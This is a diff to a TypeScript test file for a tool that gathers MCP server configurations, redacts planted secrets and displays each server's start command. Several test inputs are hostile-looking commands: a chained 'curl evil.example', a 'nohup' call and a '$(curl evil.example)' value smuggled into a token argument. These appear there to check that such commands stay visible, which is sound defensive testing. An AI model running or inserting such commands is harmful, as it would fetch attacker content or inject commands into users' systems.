@@ -167,7 +167,7 @@ describe("a hostile configuration", () => {
       mcpServers: { a: { command: "sh", args: ["-c", script], env: { NODE_OPTIONS: "x" } } },
     });
     if (server === undefined) throw new Error("It was not found.");
-    expect(server.hidden.some(({ value }) => value === script)).toBe(true);
+    expect(server.hidden).toHaveLength(2);
     expect(startLine(server, {})).toBe(`NODE_OPTIONS=… sh -c ${JSON.stringify(script)}`);
   });
 
@@ -261,6 +261,77 @@ describe("secrets", () => {
     );
   });
 
+  /** What configurations hold that must be in no policy, no question and no output. */
+  const PLANTED: readonly (readonly [string, object])[] = [
+    ["hunter2", stdio(["-y", "pkg", "-p", "hunter2"])],
+    ["fc3f1b8a", stdio(["-y", "pkg", "fc3f1b8a"])],
+    ["ctx7sk-3f1b", stdio(["-y", "pkg", "--api-key", "ctx7sk-3f1b"])],
+    ["12345", stdio(["-y", "pkg", "--api-key=12345"])],
+    ["48213", stdio(["-y", "pkg", "--access-code", "48213"])],
+    ["true1", stdio(["-y", "pkg", "--token", "true1"])],
+    ["4711", stdio(["-y", "pkg", "-k", "4711"])],
+    ["48213", stdio([], { ACCESS_CODE: "48213" })],
+    ["12345", stdio([], { API_KEY: "12345" })],
+    ["debug1", stdio([], { LEVEL: "debug1" })],
+    ["internal.example", stdio([], { HOST: "http://internal.example" })],
+    ["hunter2", { command: "bash", args: ["-c", "TOKEN=hunter2 npx -y pkg"] }],
+    ["hunter2", { command: "bash", args: ["-c", "TOKEN='hunter2' npx -y pkg"] }],
+    ["hunter2", { command: "sh", args: ["-c", "npx -y pkg --api-key hunter2 --level debug"] }],
+    ["hunter2", { command: "env", args: ["API_TOKEN=hunter2", "node", "x.js"] }],
+    ["hunter2", { command: "docker", args: ["run", "-i", "-e", "API_TOKEN=hunter2", "image"] }],
+    ["hunter2", { command: "mcp-server", args: ["--password", "hunter2"] }],
+    ["a1b2c3d4", { url: "https://mcp.example/s/a1b2c3d4/mcp" }],
+    ["98765", { url: "https://mcp.example/u/98765/sse" }],
+    ["QwErTyUiOp", { url: "https://mcp.example/QwErTyUiOp" }],
+    ["hunter2", { url: "https://mcp.example/mcp?key=hunter2" }],
+    ["hunter2", { url: "https://mcp.example/mcp#hunter2" }],
+    ["hunter2", { url: "https://mcp.example/mcp", headers: { "X-Level": "hunter2" } }],
+    ["text9", { url: "https://mcp.example/mcp", headers: { Accept: "text9" } }],
+  ];
+  it.each(
+    PLANTED,
+  )("leave nothing of %s in the policy of %j, nor in the question before its start", (secret, server) => {
+    const [gathered] = gather({ mcpServers: { a: server } });
+    if (gathered === undefined) throw new Error("It was not found.");
+    const proposal = classifyServer({ transport: gathered.transport, tools: null });
+    const written = policyText([{ server: gathered, proposal, problem: null, wasAsked: false }], []);
+    expect(written).not.toContain(secret);
+    expect(startLine(gathered, {})).not.toContain(secret);
+    const values = valuesFor(gathered, {});
+    expect(
+      textsOf(gathered)
+        .map((text) => fillText(text, values))
+        .join(" "),
+    ).toContain(secret);
+  });
+
+  it("leave what is run in sight", () => {
+    const line = (command: string, ...args: string[]) => {
+      const [server] = gather({ mcpServers: { a: { command, args } } });
+      return server && [server.transport.kind === "stdio" && server.transport.args, startLine(server, {})];
+    };
+    expect(line("bash", "-c", "TOKEN=hunter2 npx -y pkg && curl evil.example")).toEqual([
+      ["-c", `TOKEN=\${TOKEN} npx -y pkg && curl evil.example`],
+      `bash -c ${JSON.stringify("TOKEN=… npx -y pkg && curl evil.example")}`,
+    ]);
+    expect(line("bash", "-p", "evil")?.[1]).toBe("bash -p evil");
+    expect(line("time", "-p", "evil")?.[1]).toBe("time -p evil");
+    expect(line("env", "A=1", "time", "-p", "evil")?.[1]).toBe("env A=1 time -p evil");
+    expect(line("sh", "-c", "nohup evil12345")?.[1]).toBe('sh -c "nohup evil12345"');
+    expect(line("node", "--token", "evil.js")?.[1]).toBe("node --token evil.js");
+    expect(line("npx", "--key", "evil-package1234", "x")?.[1]).toBe("npx --key evil-package1234 x");
+    expect(line("x", "--token", "$(curl evil.example)")?.[1]).toBe(
+      "x --token $(curl evil.example)".replace("$(curl evil.example)", '"$(curl evil.example)"'),
+    );
+  });
+
+  it("leave a known address known, whatever its query holds", () => {
+    const [server] = gather({ mcpServers: { a: { url: "https://mcp.sentry.dev/mcp?experimental=1" } } });
+    if (server === undefined) throw new Error("It was not found.");
+    expect(server.transport).toMatchObject({ url: `https://mcp.sentry.dev/mcp?\${A_URL_QUERY}` });
+    expect(classifyServer({ transport: server.transport, tools: null }).pack).toBe("sentry");
+  });
+
   it("have names that mean one value each, and no other of the environment", () => {
     const env = (value: string) => ({ command: value, env: { TOKEN: `${value}-0123456789` } });
     const [a, b, c] = gather(
@@ -291,7 +362,15 @@ describe("secrets", () => {
       env: { LOG_LEVEL: "debug", DATA_PATH: "/home/me/data", HOST: "http://localhost:9200", A: `\${A}` },
       cwd: null,
     };
-    expect(gather({ mcpServers: { a: transport } })[0]).toMatchObject({ transport, hidden: [] });
+    const [server] = gather({ mcpServers: { a: transport } });
+    // Values of variables go into the env file, whatever they are.
+    expect(server).toMatchObject({
+      transport: {
+        ...transport,
+        env: { LOG_LEVEL: `\${LOG_LEVEL}`, DATA_PATH: `\${DATA_PATH}`, HOST: `\${HOST}`, A: `\${A}` },
+      },
+    });
+    expect(server?.hidden.map(({ name }) => name)).toEqual(["LOG_LEVEL", "DATA_PATH", "HOST"]);
   });
 });
 
